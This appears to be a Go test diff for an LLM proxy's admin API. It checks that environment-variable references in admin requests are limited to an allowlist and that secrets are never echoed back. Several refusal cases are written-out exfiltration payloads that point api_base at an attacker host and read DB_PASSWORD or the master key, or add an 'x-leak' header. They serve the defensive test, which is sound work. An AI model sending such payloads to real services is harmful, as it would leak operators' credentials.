@@ -26,11 +26,13 @@ type fakeAdmin struct {
 	env    config.Env
 	srv    *Server
 	fail   error // returned by every call when set
+	calls  int   // changes asked for
 }
 
 func (a *fakeAdmin) apply(edit func(config.Dynamic, *config.Config) (config.Dynamic, error)) (*config.Config, *config.Config, uint64, error) {
 	a.mu.Lock()
 	defer a.mu.Unlock()
+	a.calls++
 	if a.fail != nil {
 		return nil, nil, 0, a.fail
 	}
@@ -315,5 +317,100 @@ func TestAdminTakesCurlBodies(t *testing.T) {
 		"Authorization", "Bearer sk-master", "Content-Type", "application/x-www-form-urlencoded")
 	if resp.StatusCode != 400 || !strings.Contains(got, "JSON object") {
 		t.Fatalf("a real form body: %d %s, want a 400 asking for a JSON object", resp.StatusCode, got)
+	}
+}
+
+// startAdminEnv is startAdmin with env, and with the node's config.AdminEnv both in the admin
+// (as the raft store builds with it) and, when precheck, in the server.
+func startAdminEnv(t *testing.T, yaml string, env config.MapEnv, precheck bool) (*harness, *fakeAdmin, string) {
+	t.Helper()
+	_, base := fakeupstream.Start(t, fakeupstream.Options{})
+	yaml = strings.ReplaceAll(yaml, "{{UP}}", base)
+	cfg, err := config.Parse("admin.yaml", []byte(yaml), env, testLogger(t))
+	if err != nil {
+		t.Fatal(err)
+	}
+	static, dyn, err := config.Split([]byte(yaml))
+	if err != nil {
+		t.Fatal(err)
+	}
+	adminEnv := config.NewAdminEnv(env, static, dyn, cfg.ClusterSettings.AdminEnvAllow)
+	adm := &fakeAdmin{static: static, dyn: dyn, env: adminEnv}
+	opts := Options{Config: cfg, State: local.New(local.Options{}), Backend: "local", Node: "n1", Logger: testLogger(t), Admin: adm}
+	if precheck {
+		opts.AdminEnv = adminEnv
+	}
+	srv, err := New(opts)
+	if err != nil {
+		t.Fatal(err)
+	}
+	adm.srv = srv
+	ts := httptest.NewServer(srv)
+	t.Cleanup(ts.Close)
+	return &harness{URL: ts.URL, srv: srv}, adm, base
+}
+
+// TestAdminEnvAllowlist: os.environ/ in admin bodies resolves only the names the node's file
+// uses in model_list/router_settings or cluster_settings.admin_env_allow matches; anything
+// else, and the master key's variable whatever the globs, is a 400 naming the variable and the
+// setting, refused before the change is proposed. Without the server's check, building the
+// change (as raft's apply does on every node) refuses it all the same.
+func TestAdminEnvAllowlist(t *testing.T) {
+	needsServers(t)
+	const yaml = `
+model_list:
+  - model_name: gpt-4o
+    litellm_params:
+      model: openai/gpt-4o
+      api_base: {{UP}}/v1
+      api_key: os.environ/UP_KEY
+general_settings:
+  master_key: os.environ/LITELLM_MASTER_KEY
+cluster_settings:
+  admin_env_allow: ["TEAM_*_KEY"]
+`
+	env := config.MapEnv{"UP_KEY": "sk-up-secret", "LITELLM_MASTER_KEY": "sk-master", "TEAM_A_KEY": "sk-team-a", "DB_PASSWORD": "db-secret"}
+	key := []string{"Authorization", "Bearer sk-master"}
+	for _, precheck := range []bool{true, false} {
+		t.Run(fmt.Sprintf("precheck=%v", precheck), func(t *testing.T) {
+			h, adm, base := startAdminEnv(t, yaml, env, precheck)
+			newModel := func(id, apiKey string) (*http.Response, string) {
+				return post(t, h.URL+"/model/new", fmt.Sprintf(`{"model_name":"m-%s","litellm_params":{"model":"openai/x","api_base":%q,"api_key":%q},"model_info":{"id":%q}}`,
+					id, base+"/v1", apiKey, id), key...)
+			}
+			for _, tt := range []struct{ id, ref string }{{"file", "os.environ/UP_KEY"}, {"glob", "os.environ/TEAM_A_KEY"}} {
+				if resp, body := newModel(tt.id, tt.ref); resp.StatusCode != 200 {
+					t.Fatalf("/model/new with %s: %d %s", tt.ref, resp.StatusCode, body)
+				}
+			}
+			version, calls := adm.dyn.Version, adm.calls
+			refusals := []struct{ name, path, body, msg string }{
+				{"other variable", "/model/new", "", "os.environ/DB_PASSWORD is not allowed in the admin API: this node's config file does not use it in model_list or router_settings; add it to cluster_settings.admin_env_allow"},
+				{"master key", "/model/new", "", "os.environ/LITELLM_MASTER_KEY is not allowed in the admin API: it holds one of herd's own keys"},
+				{"update", "/model/update", `{"model_info":{"id":"file"},"litellm_params":{"api_key":"os.environ/DB_PASSWORD"}}`, "os.environ/DB_PASSWORD is not allowed"},
+				{"update extra header", "/model/update", `{"model_info":{"id":"file"},"litellm_params":{"extra_headers":{"x-leak":"os.environ/LITELLM_MASTER_KEY"}}}`, "os.environ/LITELLM_MASTER_KEY is not allowed"},
+				{"router settings", "/config/update", `{"router_settings":{"routing_strategy":"os.environ/DB_PASSWORD"}}`, "router_settings.routing_strategy: os.environ/DB_PASSWORD is not allowed"},
+			}
+			for _, r := range refusals {
+				body := r.body
+				if body == "" {
+					v := map[string]string{"other variable": "DB_PASSWORD", "master key": "LITELLM_MASTER_KEY"}[r.name]
+					body = fmt.Sprintf(`{"model_name":"leak","litellm_params":{"model":"openai/x","api_base":"http://attacker.invalid","api_key":"os.environ/%s"}}`, v)
+				}
+				resp, got := post(t, h.URL+r.path, body, key...)
+				wantError(t, resp, got, 400, r.msg)
+				for _, secret := range []string{"sk-master", "db-secret", "sk-up-secret"} {
+					if strings.Contains(got, secret) {
+						t.Errorf("%s: the reply shows a secret: %s", r.name, got)
+					}
+				}
+			}
+			if adm.dyn.Version != version {
+				t.Errorf("refused changes moved the version %d -> %d", version, adm.dyn.Version)
+			}
+			if precheck && adm.calls != calls {
+				t.Errorf("refused changes reached the config admin (%d calls)", adm.calls-calls)
+			}
+		})
 	}
 }
